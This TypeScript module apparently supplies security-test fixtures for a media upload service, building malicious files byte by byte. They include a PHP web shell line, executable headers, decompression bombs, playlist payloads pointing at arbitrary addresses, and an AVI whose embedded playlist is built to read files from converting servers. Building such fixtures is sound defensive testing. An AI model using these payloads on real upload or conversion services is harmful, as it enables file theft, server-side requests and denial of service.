import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Files that were made to do harm, byte by byte. */

const ascii = (text: string) => Buffer.from(text, 'latin1');
const be16 = (value: number) => Buffer.from([(value >> 8) & 255, value & 255]);
function be32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
}
function le32(value: number): Buffer {
  return be32(value).reverse();
}

/** Beginnings of programs, long enough for whoever looks at magic numbers. */
export const programs: Record<string, Buffer> = {
  ELF: Buffer.concat([ascii('\x7fELF\x02\x01\x01'), Buffer.alloc(57), Buffer.alloc(400, 0x90)]),
  PE: Buffer.concat([ascii('MZ\x90\0\x03\0\0\0'), Buffer.alloc(52), le32(64), ascii('PE\0\0\x64\x86'), Buffer.alloc(400)]),
  'Mach-O': Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(400)]),
  script: Buffer.from('#!/bin/sh\ntouch /tmp/owned\n'),
  PHP: Buffer.from('<?php system($_GET["c"]); ?><html><body></body></html>'),
};

function pngChunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([ascii(kind), data]);
  return Buffer.concat([be32(data.length), body, be32(crc32(body))]);
}

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc;
}

/** A valid picture of `side` × `side` white dots, one bit each: small as a file, huge when it is opened. */
export function pngBomb(side: number): Buffer {
  const row = Buffer.alloc(1 + Math.ceil(side / 8));
  const header = Buffer.concat([be32(side), be32(side), Buffer.from([1, 0, 0, 0, 0])]);
  const data = deflateSync(Buffer.concat(Array.from({ length: side }, () => row)));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', data),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A small JPEG that says of itself to be as large as decoders admit. */
export async function jpegBomb(): Promise<Buffer> {
  const bytes = await plain('jpeg');
  const frame = bytes.indexOf(Buffer.from('ffc0', 'hex'));
  be16(65_500).copy(bytes, frame + 5);
  be16(65_500).copy(bytes, frame + 7);
  return bytes;
}

/** A lossless WebP that says of itself to be 16,383 × 16,383. */
export function webpBomb(): Buffer {
  const data = Buffer.concat([Buffer.from([0x2f, 0xfe, 0xbf, 0xff, 0x0f]), Buffer.alloc(64, 0x55)]);
  return Buffer.concat([ascii('RIFF'), le32(data.length + 13), ascii('WEBPVP8L'), le32(data.length), data, Buffer.alloc(data.length % 2)]);
}

/** A GIF of 64 × 36 pixels that asks for a screen of other sides around them. */
export async function gifOnScreen(width: number, height: number): Promise<Buffer> {
  const bytes = await plain('gif');
  bytes.writeUInt16LE(width, 6);
  bytes.writeUInt16LE(height, 8);
  return bytes;
}

/** A GIF whose one frame comes again and again. */
export async function gifOfFrames(count: number, side: number): Promise<Buffer> {
  const one = await sharp({ create: { width: side, height: side, channels: 3, background: '#c33' } })
    .gif()
    .toBuffer();
  const start = one.indexOf(Buffer.from('21f904', 'hex'));
  const frame = one.subarray(start, -1);
  return Buffer.concat([one.subarray(0, start), ...Array.from({ length: count }, () => frame), ascii(';')]);
}

export function plain(format: 'jpeg' | 'png' | 'gif' | 'webp'): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 36, channels: 3, background: '#3a6' } })
    .toFormat(format)
    .toBuffer();
}

/** Playlists of every kind that points at an address, as text. */
export function playlists(address: string): Record<string, Buffer> {
  const texts = {
    HLS: `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n${address}\n#EXT-X-ENDLIST\n`,
    concat: `file '${address}'\n`,
    ffconcat: `ffconcat version 1.0\nfile '${address}'\n`,
    DASH: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>${address}</BaseURL></Period></MPD>`,
    SDP: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:${address}\nm=video 5004 RTP/AVP 96\n`,
    ASX: `<asx version="3.0"><entry><ref href="${address}"/></entry></asx>`,
    PLS: `[playlist]\nFile1=${address}\nNumberOfEntries=1\n`,
  };
  return Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)]));
}

/** Beginnings that make a text look like one of the kinds that are taken. */
export const disguises: Record<string, Buffer> = {
  mp3: Buffer.concat([ascii('ID3\x03\0\0\0\0\0\0'), Buffer.from('fffb9064', 'hex')]),
  mp4: Buffer.concat([be32(16), ascii('ftypisom'), be32(0)]),
  mov: Buffer.concat([be32(16), ascii('ftypqt  '), be32(0)]),
  avi: Buffer.concat([ascii('RIFF'), le32(2000), ascii('AVI LIST'), le32(500)]),
  wav: Buffer.concat([ascii('RIFF'), le32(2000), ascii('WAVEfmt '), le32(500)]),
  ogg: ascii('OggS\0\x02\0\0\0\0\0\0\0\0'),
  mkv: Buffer.from('1a45dfa3934282886d6174726f736b61', 'hex'),
  webm: Buffer.from('1a45dfa38f4282847765626d', 'hex'),
  aac: Buffer.from('fff150800400fc', 'hex'),
  gif: ascii('GIF89a'),
};

/** A MOV (index at its end) whose frames are said to lie in another file (`dref` with an alias, QuickTime File Format). */
export function withExternalData(mov: Buffer, target: string): Buffer {
  const path = ascii(target.length % 2 ? `${target}\0` : target);
  const alias = Buffer.concat([
    Buffer.alloc(4 + 10),
    Buffer.alloc(28 + 12),
    Buffer.alloc(64 + 16),
    // How many folders up and down, where the path is not absolute.
    target.startsWith('/') ? Buffer.alloc(4) : Buffer.from([0, 1, 0, 1]),
    Buffer.alloc(16),
    be16(2),
    be16(target.length),
    path,
    be16(0xffff),
    be16(0),
  ]);
  const entry = Buffer.concat([be32(alias.length + 8), ascii('alis'), alias]);
  const at = mov.indexOf('dref') + 12;
  const old = mov.readUInt32BE(at);
  const grown = Buffer.concat([mov.subarray(0, at), entry, mov.subarray(at + old)]);
  for (const name of ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref']) {
    const box = mov.lastIndexOf(name, at) - 4;
    grown.writeUInt32BE(mov.readUInt32BE(box) + entry.length - old, box);
  }
  return grown;
}

/** A Matroska file with a title becomes one that names the file to go on with (`NextFilename`). */
export function linkedTo(mkv: Buffer, title: string): Buffer {
  const at = mkv.indexOf(ascii(title)) - 3;
  const linked = Buffer.from(mkv);
  Buffer.concat([Buffer.from('3e83bb', 'hex'), Buffer.from([0x80 | (title.length - 1)]), ascii(title.slice(1))]).copy(linked, at);
  return linked;
}

/** An AVI with a subtitle stream that carries a playlist: once read every file of servers that converted it. */
export function aviWithPlaylist(playlist: Buffer): Buffer {
  const chunk = (name: string, data: Buffer) => Buffer.concat([ascii(name), le32(data.length), data, Buffer.alloc(data.length % 2)]);
  const header = Buffer.alloc(56);
  header.writeUInt32LE(40_000, 0);
  header.writeUInt32LE(2, 24);
  header.writeUInt32LE(224, 32);
  header.writeUInt32LE(160, 36);
  const stream = (kind: string) => Buffer.concat([ascii(kind), Buffer.alloc(16), le32(1), le32(25), Buffer.alloc(24)]);
  const format = Buffer.concat([le32(40), le32(224), le32(160), Buffer.from([1, 0, 24, 0]), ascii('XVID'), Buffer.alloc(20)]);
  const strl = (kind: string) => chunk('LIST', Buffer.concat([ascii('strl'), chunk('strh', stream(kind)), chunk('strf', format)]));
  const subtitle = Buffer.concat([ascii('GAB2\0\x02\0'), Buffer.alloc(10), playlist]);
  const frames = Array.from({ length: 50 }, () => chunk('01dc', Buffer.alloc(200)));
  const movi = chunk('LIST', Buffer.concat([ascii('movi'), chunk('00tx', subtitle), ...frames]));
  const hdrl = chunk('LIST', Buffer.concat([ascii('hdrl'), chunk('avih', header), strl('txts'), strl('vids')]));
  return chunk('RIFF', Buffer.concat([ascii('AVI '), hdrl, movi]));
}

/** An AVI whose index points beyond its end. */
export function indexBeyondTheEnd(avi: Buffer): Buffer {
  const broken = Buffer.from(avi);
  const index = broken.lastIndexOf('idx1');
  const entries = broken.readUInt32LE(index + 4) / 16;
  for (let entry = 0; entry < entries; entry++) broken.writeUInt32LE(0x7fffff00, index + 8 + entry * 16 + 8);
  return broken;
}
